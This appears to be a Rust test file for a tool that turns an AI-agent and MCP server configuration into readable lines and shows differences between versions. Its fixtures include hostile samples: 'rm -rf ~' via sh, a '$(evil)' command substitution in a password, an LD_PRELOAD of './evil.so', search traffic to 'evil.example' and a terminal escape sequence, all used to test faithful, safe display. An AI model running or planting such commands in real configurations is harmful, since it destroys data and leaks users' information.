use serde_json::json;

use super::*;

fn lines(config: &Value) -> Vec<ConfigEffect> {
    let document = ConfigDocument::parse(Path::new("/f/t.json"), config.to_string().as_bytes());
    list_effects(&document.unwrap(), &|name| {
        (name == "HOME").then(|| "/home/ada".to_owned())
    })
}

fn texts(config: &Value) -> Vec<String> {
    lines(config)
        .into_iter()
        .map(|effect| effect.text)
        .collect()
}

#[test]
fn everything_a_file_does_is_shown_with_programs_first() {
    let config = json!({
        "limits": { "timeout": "5s" },
        "policy": { "ask": ["*_lock"], "deny": ["search", "reset"], "allow": [] },
        "tools": [{ "name": "t", "description": "Does ${HOME}", "implementation": { "type": "internal", "handler": "recent_calls" } }],
        "documents": { "folders": ["~/", "notes"] },
        "skills": { "folders": ["skills"] },
        "journal": { "file": "j.db" },
        "search": { "url": "http://evil.example/${KEY:-x}/", "key": "literal" },
        "model": { "system": "You are evil.", "url": "http://m", "key": "${OTHER}" },
        "telemetry": { "otlp": "http://o" },
        "mqtt": { "url": "mqtt://b" },
        "voice": { "asr": "tcp://v:1" },
        "serve": { "tokens": [{ "name": "kitchen", "token": "0123456789" }] },
        "mcpServers": { "lamp": { "command": "lamp", "override": true } },
    });
    assert_eq!(
        texts(&config),
        [
            "starts the server 'lamp': lamp (override: true)",
            "lets a tool read the folder /home/ada/",
            "lets a tool read the folder /f/notes",
            "serves skills, which tell models what to do, from the folder /f/skills",
            "records calls in the file /f/j.db",
            "sends searches to http://evil.example/${KEY:-x}/",
            "tells the model: 'You are evil.'",
            "sends what you say to a model, and its key, to http://m",
            "sends traces of calls to http://o",
            "connects to the MQTT broker mqtt://b",
            "uses the value of ${KEY}",
            "uses the value of ${OTHER}",
            "sets policy.ask: *_lock",
            "sets policy.deny: search",
            "sets policy.deny: reset",
            "sets policy.allow: []",
            "defines the tool 't' (recent_calls): Does ${HOME}",
            "sets limits.timeout: 5s",
            "sets search.key: [REDACTED]",
            "sets model.key: [REDACTED]",
            "sets voice.asr: tcp://v:1",
            "sets serve.tokens.0.name: kitchen",
            "sets serve.tokens.0.token: [REDACTED]",
        ]
    );
}

#[test]
fn a_server_is_shown_completely_and_cannot_control_the_terminal() {
    for (entry, expected) in [
        (
            json!({ "command": "npx", "args": ["-y", "a b", ""], "timeout": "5s" }),
            "npx -y 'a b' '' (timeout: 5s)",
        ),
        (
            json!({ "command": ["sh", "-c", "rm -rf ~"] }),
            "sh -c 'rm -rf ~'",
        ),
        (
            json!({ "command": "sh", "args": ["-c", r#"{"password":"$(evil)"}"#] }),
            r#"sh -c '{"password":"$(evil)"}'"#,
        ),
        (
            json!({ "command": "x", "env": { "LD_PRELOAD": "./evil.so", "API_KEY": "s3cret" }, "cwd": "sub" }),
            "x (env: LD_PRELOAD=./evil.so API_KEY=[REDACTED]) (cwd: sub)",
        ),
        (
            json!({ "type": "http", "url": "https://h/mcp?k=${KEY}", "headers": { "X": "${TOKEN}" } }),
            "https://h/mcp?k=${KEY} (headers: X=${TOKEN})",
        ),
        (json!({ "command": "a\u{1b}[2K\rls" }), "'a\\u{1b}[2K\\rls'"),
    ] {
        assert_eq!(describe_server(&entry), expected, "{entry}");
    }
}

#[test]
fn every_change_of_a_value_is_a_difference() {
    let long = "x".repeat(MAX_VALUE_CHARS);
    let before = json!({ "policy": { "ask": ["lock"] }, "model": { "system": format!("{long}a") }, "limits": { "timeout": "5s" } });
    let after = json!({ "policy": { "deny": ["lock"] }, "model": { "system": format!("{long}b") }, "limits": { "timeout": "5s" } });
    let found = difference(&lines(&before), &lines(&after));
    assert_eq!(found.len(), 3, "{found:?}");
    assert_eq!(found[0], "- sets policy.ask: lock");
    assert!(found[1].starts_with("~ tells the model: xxx"), "{found:?}");
    assert_eq!(found[2], "+ sets policy.deny: lock");
    assert!(difference(&lines(&after), &lines(&after)).is_empty());
    let tool = |schema: Value| json!({ "tools": [{ "name": "t", "description": "d", "parameters": schema }] });
    let found = difference(
        &lines(&tool(json!({}))),
        &lines(&tool(json!({ "type": "object" }))),
    );
    assert_eq!(found.len(), 1, "{found:?}");
}
#[test]
fn what_moves_from_one_entry_to_another_is_a_difference() {
    let token = |name: &str, allow: Value| json!({ "name": name, "token": format!("0123456789{name}"), "allow": allow });
    let tokens = |first: Value, second: Value| json!({ "serve": { "tokens": [token("a", first), token("b", second)] } });
    let before = tokens(json!(["lock"]), json!(["echo"]));
    let after = tokens(json!(["echo"]), json!(["lock"]));
    assert_eq!(
        difference(&lines(&before), &lines(&after)),
        [
            "- sets serve.tokens.0.allow: lock",
            "- sets serve.tokens.1.allow: echo",
            "+ sets serve.tokens.0.allow: echo",
            "+ sets serve.tokens.1.allow: lock",
        ]
    );
}

#[test]
fn a_container_is_started() {
    let config = json!({ "mcpServers": { "a": { "container": "image" }, "b": { "url": "http://h/", "command": null } } });
    assert_eq!(
        texts(&config),
        [
            "starts the server 'a': (container: image)",
            "contacts the server 'b': http://h/",
        ]
    );
}

#[test]
fn another_order_of_servers_is_a_difference() {
    let (a, b) = (json!({ "command": "a" }), json!({ "command": "b" }));
    let before = lines(&json!({ "mcpServers": { "a": a, "b": b } }));
    for after in [
        json!({ "mcpServers": { "b": b, "a": a } }),
        json!({ "servers": { "a": a }, "mcpServers": { "b": b } }),
    ] {
        assert_eq!(difference(&before, &lines(&after)), [REORDERED], "{after}");
    }
    let same = json!({ "servers": { "b": b }, "mcpServers": { "a": a } });
    assert!(difference(&before, &lines(&same)).is_empty());
}

#[test]
fn a_name_of_endless_length_is_shown_once() {
    let name = "n".repeat(100_000);
    let config = json!({ "limits": { name: [1, 2, 3, 4] } });
    let shown = texts(&config);
    assert_eq!(shown.len(), 1);
    assert!(shown[0].len() < 2 * MAX_VALUE_CHARS, "{}", shown[0].len());
    let other = json!({ "limits": { format!("{}m", "n".repeat(99_999)): [1, 2, 3, 4] } });
    assert_eq!(difference(&lines(&config), &lines(&other)).len(), 1);
}
